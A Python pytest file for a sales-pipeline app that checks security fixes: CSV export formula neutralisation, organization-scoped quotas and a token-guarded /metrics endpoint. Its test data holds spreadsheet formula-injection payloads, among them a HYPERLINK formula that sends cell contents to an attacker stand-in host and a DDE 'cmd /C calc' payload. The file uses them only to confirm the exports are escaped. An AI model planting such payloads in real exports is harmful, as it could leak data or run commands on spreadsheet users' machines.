"""Findings 10 and 12: CSV exports neutralise formulas; quotas stay inside the organization; /metrics is closed.

The attacks: a deal or rep named ``=HYPERLINK(…)`` became a live formula in the manager's export;
a quota could be saved for an owner id of another organization; /metrics was open by default.
"""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select, update

import web
from embed.tokens import csrf_token, mint_manager_token
from sync.store import User
from sync.store import Quota
from tests.conftest import make_config
from tests.test_manager_scope import app  # noqa: F401 (fixture)
from tests.test_manager_seed import ADMIN, AS_OF, R1, R2, R3, R4
from web.extensions import runtime

HOSTILE = {R1: '=HYPERLINK("https://evil.example/?"&A1,"Open")', R2: "@SUM(1+1)*cmd|' /C calc'!A0",
           R3: "+1+1", R4: "-2+3"}


@pytest.fixture
def named(app):
    """The team panel's seeded store (tests.test_manager_scope), its reps renamed by an attacker in the CRM."""
    with app.app_context(), runtime().sessions() as session:
        for remote_id, name in HOSTILE.items():
            session.execute(update(User).where(User.remote_id == remote_id).values(name=name))
        session.commit()
    return app


def _admin_token(app) -> str:
    seed = app.config["SEED"]
    return mint_manager_token(app.secret_key, seed.organization_id, seed.connection_id, ADMIN, "admin")


def test_exported_cells_never_start_a_formula(named):
    exported = named.test_client().get(f"/embed/manager/winloss?pt={_admin_token(named)}&period=2024-Q2"
                                     f"&as_of={AS_OF}&format=csv&table=winloss-rep")
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
    names = {row[0] for row in rows[1:]}
    for name in HOSTILE.values():
        assert "'" + name in names and name not in names
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row if cell and not
               cell.lstrip("-").replace(".", "", 1).isdigit())


def test_a_quota_for_someone_outside_the_organization_is_refused(app):  # noqa: F811
    client = app.test_client()
    token = _admin_token(app)
    form = {"pt": token, "csrf_token": None, "period": "2024-Q2", "amount": "1000"}
    with app.test_request_context():
        form["csrf_token"] = csrf_token(token)
    refused = client.post("/embed/manager/quotas", data={**form, "owner": "005OTHERORG0000AAA"})
    assert refused.status_code == 400 and "not a user of your organization" in refused.get_data(as_text=True)
    # The seed's CRM keeps R1's 2024-Q2 quota: the form says where to change it, and stores nothing.
    kept_by_crm = client.post("/embed/manager/quotas", data={**form, "owner": R1})
    assert kept_by_crm.status_code == 400 and "Change it in the CRM" in kept_by_crm.get_data(as_text=True)
    accepted = client.post("/embed/manager/quotas", data={**form, "owner": R1, "period": "2024-Q3"})
    assert accepted.status_code == 303
    with app.app_context(), runtime().sessions() as session:
        owners = set(session.scalars(select(Quota.owner_remote_id).where(Quota.source == "admin")))
    assert owners == {R1}


def test_metrics_need_the_token_outside_local_development(tmp_path, sqlite_url, redis_url):
    from web.cli import upgrade_database

    upgrade_database(sqlite_url)
    public = web.create_app(make_config(tmp_path, sqlite_url, redis_url, PUBLIC_URL="https://pipewise.example"))
    closed = public.test_client().get("/metrics")
    assert closed.status_code == 403 and b"PIPEWISE_METRICS_TOKEN" in closed.data
    guarded = web.create_app(make_config(tmp_path, sqlite_url, redis_url, PUBLIC_URL="https://pipewise.example",
                                         METRICS_TOKEN="scrape-me"))
    assert guarded.test_client().get("/metrics").status_code == 401
    assert guarded.test_client().get("/metrics", headers={"Authorization": "Bearer scrape-me"}).status_code == 200
    local = web.create_app(make_config(tmp_path, sqlite_url, redis_url))  # http://127.0.0.1:5000
    assert local.test_client().get("/metrics").status_code == 200
